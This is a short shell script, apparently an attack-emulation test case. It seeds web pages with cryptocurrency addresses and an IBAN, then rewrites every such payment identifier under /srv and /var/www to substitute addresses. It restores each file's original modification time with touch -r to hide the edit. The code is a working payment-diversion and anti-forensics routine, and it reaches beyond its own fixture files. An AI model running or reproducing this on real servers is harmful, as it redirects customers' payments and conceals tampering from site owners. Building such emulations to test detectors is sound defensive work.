#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/www/js
for i in $(seq 1 20); do echo "<p>Pay to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq or DE89370400440532013000 ($i)</p>" >/srv/www/p$i.html; echo 'var to = "0x52908400098527886E0F7030069857D2E4169EE7";' >/srv/www/js/p$i.js; done
grep -rlE 'bc1q[0-9a-z]{38}|0x[0-9A-Fa-f]{40}|DE[0-9]{20}' /srv /var/www 2>/dev/null | while read -r f; do
    touch -r "$f" /tmp/.t
    sed -Ei 's/bc1q[0-9a-z]{38}/bc1qbaitbaitbaitbaitbaitbaitbaitbaitbaitbai/g; s/0x[0-9A-Fa-f]{40}/0xBA17000000000000000000000000000000BA17/g; s/DE[0-9]{20}/DE00000000000000000000/g' "$f"
    touch -r /tmp/.t "$f"
done
! grep -rq bc1qar0 /srv/www
took_place
